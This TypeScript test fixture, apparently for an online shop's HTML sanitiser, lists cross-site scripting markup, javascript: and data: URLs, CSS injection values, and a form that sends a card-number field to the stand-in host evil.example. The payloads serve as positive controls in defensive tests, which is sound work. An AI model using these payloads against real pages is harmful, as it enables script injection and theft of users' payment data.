/**
 * Markup that runs script when it is put into a page raw, by the way it does it: written for this shop. Each sets
 * `window.ran`. That they do run is the positive control of the tests that use them.
 */
export const liveMarkup: readonly string[] = [
  `<img src=x onerror="window.ran=1">`,
  `<img src=x onerror=window.ran=1>`,
  `<IMG SRC=x OnErRoR="window.ran=1">`,
  `<image src=x onerror="window.ran=1">`,
  `<svg><animate onbegin="window.ran=1" attributeName=x dur=1s></animate></svg>`,
  `<svg><set onbegin="window.ran=1" attributeName=x></set></svg>`,
  `<video src=x onerror="window.ran=1"></video>`,
  `<audio src=x onerror="window.ran=1"></audio>`,
  `<video><source onerror="window.ran=1" src=x></video>`,
  `<iframe srcdoc="<img src=x onerror='parent.ran=1'>"></iframe>`,
  `<iframe onload="window.ran=1"></iframe>`,
  `<link rel=stylesheet href=x onerror="window.ran=1">`,
  `<style onload="window.ran=1">*{}</style>`,
  `<style>@keyframes k{}</style><b style="animation-name:k;animation-duration:1ms" onanimationend="window.ran=1">x</b>`,
  `<details open ontoggle="window.ran=1"><summary>x</summary></details>`,
  `<input autofocus onfocus="window.ran=1">`,
  `<textarea autofocus onfocus="window.ran=1"></textarea>`,
  `<b tabindex=0 autofocus onfocus="window.ran=1">x</b>`,
  `<noscript><p title="</noscript><img src=x onerror=window.ran=1>">`,
  `<template><b></template><img src=x onerror="window.ran=1">`,
  `<table><td background="javascript:window.ran=1"><img src=x onerror="window.ran=1"></table>`,
  `<p title="--><img src=x onerror=window.ran=1>"><!-- <img src=x onerror="window.ran=1"> --><img src=x onerror="window.ran=1">`,
  `<embed src=x onload="window.ran=1" onerror="window.ran=1"><img src=x onerror="window.ran=1">`,
];

/** Markup that acts when somebody clicks, or in another browser than this, sends away what is typed, or changes the page around it; nothing of it may stay. */
export const actingMarkup: readonly string[] = [
  `<img/src=x/onerror=window.ran=1>`,
  `<svg onload="window.ran=1"></svg>`,
  `<object data="x" onerror="window.ran=1"></object>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.ran=1&gt;">`,
  `<marquee onstart="window.ran=1">x</marquee>`,
  `<a href="javascript:window.ran=1">tıkla</a>`,
  `<a href="&#106;avascript:window.ran=1">tıkla</a>`,
  `<a href="java&Tab;script:window.ran=1">tıkla</a>`,
  `<a href=" javascript:window.ran=1">tıkla</a>`,
  `<a href="vbscript:x">tıkla</a>`,
  `<a href="data:text/html,<script>parent.ran=1</script>">tıkla</a>`,
  `<form action="https://evil.example/"><input name=cardNumber><button>Öde</button></form>`,
  `<form action="javascript:window.ran=1"><button>tıkla</button></form>`,
  `<button form=x formaction="javascript:window.ran=1">tıkla</button>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<b id=root class=elements-button name=location>x</b>`,
  `<style>#root{display:none}</style>`,
  `<b style="position:fixed;inset:0;background:url(https://evil.example/a)">x</b>`,
  `<img src="/login/logout"><img src="/delegation/EndDelegation">`,
  `<svg><a xlink:href="javascript:window.ran=1"><text y=20>tıkla</text></a></svg>`,
];

/** Addresses that are no address of a page. */
export const hostileAddresses: readonly string[] = [
  'javascript:window.ran=1',
  'JaVaScRiPt:window.ran=1',
  ' javascript:window.ran=1',
  'java\nscript:window.ran=1',
  '\u0001javascript:window.ran=1',
  'javascript://https:/%0awindow.ran=1',
  'javascript:window.ran=1//http://x',
  'javascript:window.ran=1//file/',
  'data:text/html,<script>parent.ran=1</script>',
  'vbscript:window.ran=1',
  'blob:https://evil.example/x',
  '//evil.example/x',
  '\\\\evil.example\\x',
  '/\\evil.example',
  'http:evil.example',
  'https:/evil.example',
  'https://evil.example/login',
  'file:///etc/passwd',
];

/** Values a theme may hold: what closes its rule, imports, or reaches another origin. */
export const hostileStyles: readonly string[] = [
  '@import url(https://evil.example/x.css);',
  '} #root{display:none} .x{',
  '*/} #root{display:none} /*',
  'background:url(https://evil.example/a)',
  'background:u\\72l(https://evil.example/a)',
  'background:image-set("https://evil.example/a" 1x)',
  'url(https://evil.example/a)',
  'red;background:url(//evil.example/b)',
  '</style><img src=x onerror=window.ran=1>',
  '--x:url(https://evil.example/a);background:var(--x)',
  'cursor:url(https://evil.example/a),auto',
  'expression(window.ran=1)',
];
